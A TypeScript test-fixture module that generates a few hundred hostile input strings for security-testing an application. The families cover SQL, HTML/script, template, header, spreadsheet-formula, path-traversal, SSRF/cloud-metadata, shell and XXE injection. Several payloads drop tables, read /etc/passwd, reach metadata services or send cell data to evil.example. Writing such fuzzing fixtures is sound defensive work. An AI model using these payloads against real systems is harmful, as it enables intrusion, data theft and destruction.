/*
 * About four hundred texts that have compromised or crashed comparable systems: each family combines ways to escape
 * the surrounding context with payloads. None of them is part of any text in the seeded database, so a search for one
 * finds nothing.
 */

const times = (
  starts: readonly string[],
  payloads: readonly string[],
  join = (a: string, b: string) => a + b,
) => starts.flatMap((start) => payloads.map((payload) => join(start, payload)));

const sqlStarts = ["'", "')", "'))", '"', '")', '1', '1)', String.raw`\'`, "%' ", "x' ", "𝐱'", '%bf%27'];
const sqlPayloads = [
  ' or 1=1 --',
  ' or true -- -',
  '; select pg_sleep(5); --',
  ' or (select pg_sleep(5)) is null --',
  '||(select pg_sleep(5))||',
  "; insert into post (post_name) values ('canary'); --",
  '; drop table orders cascade; --',
  ' union select password_hash from sys_user --',
  ' and 1=cast((select version()) as int) --',
  ' order by 99 --',
  "; copy (select 1) to program 'touch canary'; --",
];
const standaloneSql = [
  '(select pg_sleep(5))',
  '(select(5)from(select(pg_sleep(5)))v)',
  '1 and 1=(select 1 from pg_sleep(5))',
  '$$;select pg_sleep(5)$$',
  '$1',
  '$2::int',
  ':name',
  '@variable',
  '?::jsonb',
  '1/0',
  'case when true then pg_sleep(5) else 1 end',
  'name; set statement_timeout = 0',
  '/**/or/**/1=1',
  '-- -',
  '/*!50000 sleep(5)*/',
  "' AND sleep(5) AND '1",
  "'; waitfor delay '0:0:5' --",
  'randomblob(1000000000)',
  "chr(39)||pg_read_file('/etc/passwd')",
  "lo_import('/etc/passwd')",
  "E'\\\\047 or 1=1'",
  'U&"d\\0061ta"',
];

const htmlStarts = ['', '">', "'>", '</title>', '</script>', '</textarea>', '-->', '`>'];
const htmlPayloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import "//evil.example/x.css";</style>',
  '<base href=//evil.example/>',
];
const standaloneScripts = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '" autofocus onfocus=alert(1) x="',
  "' style='behavior:url(#x)' x='",
  '{{constructor.constructor("alert(1)")()}}',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '＜script＞alert(1)＜/script＞',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
];

const templateFrames = [
  '${*}',
  '{{*}}',
  '#{*}',
  '<%= * %>',
  '*{*}',
  '@(*)',
  '{%*%}',
  '${{*}}',
  '[[*]]',
  '{php}*{/php}',
];
const templatePayloads = [
  '7919*7919',
  'process.env',
  'constructor.constructor("return process")()',
  "''.__class__.__mro__",
  'jndi:ldap://127.0.0.1/a',
  'T(java.lang.Runtime).getRuntime().exec("id")',
];

const lineBreaks = ['\r\n', '\n', '\r', '%0d%0a', '%0a', '\u2028', '\u0085', '%E5%98%8A%E5%98%8D'];
const lines = [
  'Set-Cookie: canary=1',
  'Location: https://evil.example',
  '{"level":50,"msg":"FAKE LINE"}',
  'HTTP/1.1 200 OK\r\n\r\n<html>',
];

const formulaStarts = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠', "'=", '"='];
const formulas = ["cmd|'/C calc'!A0", 'HYPERLINK("https://evil.example?"&A1,"x")', 'SUM(1+1)*cmd|x!A1'];

const pathStarts = [
  '../',
  '..\\',
  '..%2f',
  '..%5c',
  '%2e%2e/',
  '....//',
  '..;/',
  '/',
  'file:///',
  '..%c0%af',
];
const pathTargets = ['etc/passwd', 'package.json', 'windows/win.ini', 'config.json%00.png'];

/** URLs of this machine, of cloud metadata services and of other protocols. `*` is the port. */
export const innerAddresses = [
  'http://127.0.0.1:*/canary',
  'http://127.0.0.2:*/canary',
  'http://127.1:*/canary',
  'http://0.0.0.0:*/canary',
  'http://0:*/canary',
  'http://[::1]:*/canary',
  'http://[::]:*/canary',
  'http://[::ffff:127.0.0.1]:*/canary',
  'http://2130706433:*/canary',
  'http://0x7f000001:*/canary',
  'http://0177.0.0.1:*/canary',
  'http://localhost:*/canary',
  'http://localhost.:*/canary',
  'http://LOCALHOST:*/canary',
  'https://127.0.0.1:*/canary',
  'http://user:pass@127.0.0.1:*/canary',
  'http://evil.example@127.0.0.1:*/canary',
  'http://127.0.0.1:*/redirect?to=http://127.0.0.1:*/canary',
  'http://①②⑦.⓪.⓪.①:*/canary',
  'http://169.254.169.254/latest/meta-data/',
  'http://[fd00:ec2::254]/latest/meta-data/',
  'http://metadata.google.internal/computeMetadata/v1/',
  'file:///etc/passwd',
  'gopher://127.0.0.1:*/_canary',
  'dict://127.0.0.1:*/canary',
  'ftp://127.0.0.1:*/canary',
  'ldap://127.0.0.1:*/canary',
  '//127.0.0.1:*/canary',
  String.raw`http:\\127.0.0.1:*\canary`,
  'jar:http://127.0.0.1:*/canary!/',
];

const strange = [
  '\u0000',
  'a\u0000b',
  '\u001b[2J\u001b[31m',
  '\u202egnp.exe',
  '\u200b\u200b\u200b',
  '\ufeff\ufeff',
  '\ud800',
  '\udfff\ud800',
  'İstanbul\u0307',
  'ﷺ'.repeat(50),
  '👨‍👩‍👧‍👦'.repeat(8),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳',
  '%%%%',
  '%_%_',
  '\\\\\\',
  '\\%\\_',
  '[a-z]*+?^$',
  '(a+)+$',
  '$ne',
  '{"$gt":""}',
  '{"$where":"sleep(5000)"}',
  '[$regex]=.*',
  '*)(uid=*))(|(uid=*',
  "' or '1'='1' or ''='",
  '__proto__',
  'constructor.prototype',
  'toString()',
  'NaN.0',
  '1e400x',
  '٣٣٣٣',
  'x'.repeat(200),
  ' \t '.repeat(60),
  '`touch canary`',
  '$(touch canary)',
  '; touch canary #',
  '| touch canary',
  '&& touch canary',
  '() { :;}; touch canary',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '<!--#exec cmd="touch canary"-->',
  '<?php echo 7919*7919; ?>',
];

/** Families by name; see `hostileStrings`. */
export const hostileFamilies = {
  sql: [...times(sqlStarts, sqlPayloads), ...standaloneSql],
  html: [...times(htmlStarts, htmlPayloads), ...standaloneScripts],
  templates: times(templateFrames, templatePayloads, (frame, payload) => frame.replaceAll('*', payload)),
  lines: times(lineBreaks, lines, (lineBreak, line) => `x${lineBreak}${line}`),
  formulas: times(formulaStarts, formulas),
  paths: times(pathStarts, pathTargets),
  addresses: innerAddresses.map((address) => address.replaceAll('*', '9')),
  strange,
} as const satisfies Record<string, readonly string[]>;

/** All of them, one family after the other. */
export const hostileStrings: readonly string[] = [...new Set(Object.values(hostileFamilies).flat())];

/** A sample spread over all families; `turn` selects a different one. */
export function someHostileStrings(count: number, turn = 0): string[] {
  if (count >= hostileStrings.length) return [...hostileStrings];
  const step = hostileStrings.length / count;
  return Array.from(
    { length: count },
    (_, n) => hostileStrings[Math.floor(n * step + turn * 7) % hostileStrings.length] ?? '',
  );
}
